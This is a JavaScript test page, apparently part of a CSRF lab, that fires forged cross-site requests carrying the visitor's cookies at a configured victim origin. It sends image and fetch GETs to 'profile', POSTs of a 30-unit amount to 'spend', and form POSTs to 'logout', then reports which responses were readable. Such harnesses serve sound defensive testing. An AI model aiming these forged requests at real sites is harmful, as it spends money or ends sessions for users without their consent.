/**
 * Sends the forged requests that the address names (kinds, strategies, and a mark that stands in the query of each request), and reports
 * to the window that opened this one what this page could read of the answers. A form takes this window along to the answer.
 */

const { victim } = document.querySelector('main').dataset;
const asked = new URLSearchParams(location.search);
const mark = asked.get('mark');
const list = (name) => (asked.get(name) ?? '').split(',').filter((word) => /^[a-z-]+$/.test(word));

/** The status of an answer that this page may read; nothing if the browser keeps the answer from it. */
const status = (answer) => answer.status || undefined;
const refused = () => undefined;

/** @param {RequestInit} options */
const fetched = (url, options) => fetch(url, { credentials: 'include', ...options }).then(status, refused);

/** @type {Record<string, {route: string, send: (url: string) => Promise<number | undefined> | void}>} */
const kinds = {
  image: {
    route: 'profile',
    send: (url) => new Promise((done) => {
      const image = new Image();
      image.onload = () => done(undefined);
      image.onerror = () => done(undefined);
      image.src = url;
    }),
  },
  read: { route: 'profile', send: (url) => fetched(url, {}) },
  text: { route: 'spend', send: (url) => fetched(url, { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body: '{"amount":30}' }) },
  json: { route: 'spend', send: (url) => fetched(url, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: '{"amount":30}' }) },
  script: { route: 'logout', send: (url) => fetched(url, { method: 'POST', mode: 'no-cors' }) },
  form: {
    route: 'logout',
    send: (url) => {
      const form = document.createElement('form');
      form.method = 'post';
      form.action = url;
      document.body.append(form);
      form.submit();
    },
  },
};

const seen = {};
await Promise.all(list('kinds').filter((kind) => Object.hasOwn(kinds, kind)).flatMap((kind) => list('slugs').map(async (slug) => {
  const { route, send } = kinds[kind];
  seen[`${kind} ${slug}`] = await send(`${victim}/${slug}/${route}?${encodeURIComponent(`${mark}-${kind}`)}`);
})));
opener?.postMessage({ mark, seen }, victim);
